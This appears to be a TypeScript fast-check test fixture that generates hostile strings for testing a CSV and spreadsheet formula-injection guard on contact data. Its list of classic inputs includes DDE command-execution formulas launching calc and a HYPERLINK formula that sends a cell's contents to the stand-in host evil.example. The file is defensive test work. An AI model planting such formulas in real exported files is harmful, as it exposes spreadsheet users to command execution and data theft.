import * as fc from 'fast-check';

/** Texts near everything that a spreadsheet, a CSV reader or the formula guard treats in a way of its own. */

const pieces = [
  ["'", "''", '=', '+', '-', '@', '\t', '\n', '\0', '＝', '＋', '－', '＠'],
  ['Empty', 'EMPTY', 'empty', 'eMpTy', 'TRUE', 'faux'],
  ['"', '""', ';', ',', '|', 'sep=;', '\\', '\u001a', '\uFEFF', '\u00a0', '\u2028', '\u0085', ' '],
  ['a', '1', '007', '1E5', '1-2', '2024-01-02', 'SUM(A1)', 'cmd|/c calc', 'é', 'e\u0301', '😀', '𝒳', '\u202e', 'ﷺ'],
].flat();

/** A text of a contact as the database may hold it: line breaks are LF, no lone surrogates. */
export const hostileText = fc
  .oneof(
    {
      weight: 3,
      arbitrary: fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 6 }).map((some) => some.join('')),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }) },
  )
  .map((text) => text.replaceAll(/\r\n?/g, '\n'));

/** What a spreadsheet runs when a cell begins with it. https://owasp.org/www-community/attacks/CSV_Injection */
export const startsFormula = /^[=+\-@\t\r\n\0＝＋－＠]/;

/** The classics, each by its name. */
export const classics = [
  '=1+1',
  "'=1+1",
  "''=1+1",
  '+33 1 23 45',
  '-50 %',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'Empty',
  'EMPTY',
  'eMpTy',
  "'Empty",
  "'",
  "'tis",
  '"=1+1"',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=DDE("cmd";"/C calc";"x")',
  'sep=;',
  'a;b,c\td"e"',
  '😀',
  '=😀',
];
